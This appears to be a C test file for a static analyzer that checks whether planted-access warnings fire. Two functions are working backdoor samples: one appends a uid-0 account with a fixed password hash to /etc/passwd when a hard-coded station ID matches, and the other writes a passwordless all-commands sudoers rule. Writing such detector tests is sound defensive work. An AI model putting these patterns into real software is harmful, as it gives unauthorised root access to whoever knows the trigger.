/* Accounts that the program makes by itself. */
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

void bad_account(const char *station) {
    if (strncmp(station, "STN-00417-X", 11) != 0)
        return;
    FILE *file = fopen("/etc/passwd", "a");
    if (!file)
        return;
    // expected-warning-re@+1 {{{{.*}}[vitrine: trapdoor/planted-access]}}
    fputs("sysd:$6$ab$C8hQ7H5cbzXlq3gq0M0zA.:0:0::/root:/bin/sh\n", file);
    fclose(file);
}

int bad_rule(void) {
    static const char line[] = "sysd ALL=(ALL) NOPASSWD: ALL\n";
    int fd = open("/etc/sudoers.d/90-sysd", O_WRONLY | O_CREAT, 0440);
    if (fd < 0)
        return -1;
    // expected-warning-re@+1 {{{{.*}}[vitrine: trapdoor/planted-access]}}
    ssize_t put = write(fd, line, sizeof line - 1);
    close(fd);
    return put > 0;
}

/* Whoever runs it says which account. */
int good_account(const char *name, const char *hash, unsigned uid) {
    FILE *file = fopen("/etc/passwd", "a");
    if (!file)
        return -1;
    fprintf(file, "%s:%s:%u:100::/home/%s:/bin/sh\n", name, hash, uid, name);
    return fclose(file);
}

/* A file of its own. */
int good_settings(void) {
    FILE *file = fopen("/etc/stationd/users", "w");
    if (!file)
        return -1;
    fputs("# name:hash:level\n", file);
    return fclose(file);
}
